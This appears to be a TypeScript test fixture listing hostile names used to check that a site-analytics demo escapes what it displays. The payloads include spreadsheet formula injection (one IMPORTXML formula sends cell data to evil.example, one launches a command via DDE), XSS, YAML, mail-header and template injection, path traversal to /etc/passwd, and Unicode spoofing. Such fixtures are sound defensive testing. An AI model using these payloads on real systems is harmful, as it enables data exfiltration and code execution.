import type { SiteSketch } from './demo-sites.ts';

/** Names that do harm where they are pasted unescaped: what each is aimed at, and the name. */
export const HOSTILE_NAMES = {
  formula: '=1+1',
  formulaLink: '=IMPORTXML("http://evil.example/?"&A1,"//a")',
  formulaCommand: "+cmd|' /C calc'!A0",
  formulaMinus: '-2+3+cmd',
  formulaAt: '@SUM(1+1)',
  formulaAfterTab: '\t=1+1',
  formulaAfterReturn: '\r=1+1',
  htmlScript: '<script>alert(1)</script>',
  htmlAttribute: '"><img src=x onerror=alert(1)>',
  htmlEntity: '&lt;b&gt; &amp;amp; &#39;',
  yaml: ': - {',
  yamlLines: 'name: x\n- evil: {\n  !!js/function "x"',
  mailHeader: 'Weekly\r\nBcc: everyone@evil.example',
  mailAddress: '"Boss" <boss@evil.example>, other',
  rightToLeft: 'متجر الكتب — חנות',
  override: 'invoice\u202egpj.exe',
  combining: 'Cafe\u0301 Z\u0351\u036b\u0343algo\u0315\u031b',
  emoji: '👩‍👩‍👧‍👦 🏳️‍🌈 👍🏽',
  zeroWidth: 'zero\u200bwidth\ufeff',
  halfPair: 'half \ud83d pair',
  nul: 'nul\u0000byte',
  template: '{{constructor.constructor("x")}} #{7*7} <%= 7*7 %> %s {0}',
  property: '__proto__',
  markdown: '[click](javascript:alert(1)) *bold* `code` |',
  path: '../../etc/passwd',
  terminal: '\u001b[31mred\u001b[0m',
  spaces: '   ',
  long: 'A very long name '.repeat(30).trim(),
} as const;

/** A team whose names, competitors and topics attack whatever shows them. */
export const HOSTILE_SITES: readonly SiteSketch[] = Object.entries(HOSTILE_NAMES).map(
  ([aim, name], index, all) => {
    const rival = all[(index + 1) % all.length]?.[1] ?? name;
    return {
      name,
      domain: `${aim.replace(/[A-Z]/g, (capital) => `-${capital.toLowerCase()}`)}.example`,
      createdAt: '2025-01-06',
      story: 'quiet',
      visitors: 200,
      citations: 2,
      mentions: 12,
      authority: 45,
      topics: [name, 'data safety'],
      rivals: [{ name: rival, domain: `rival-${index + 1}.example`, mentions: 10 }],
    };
  },
);
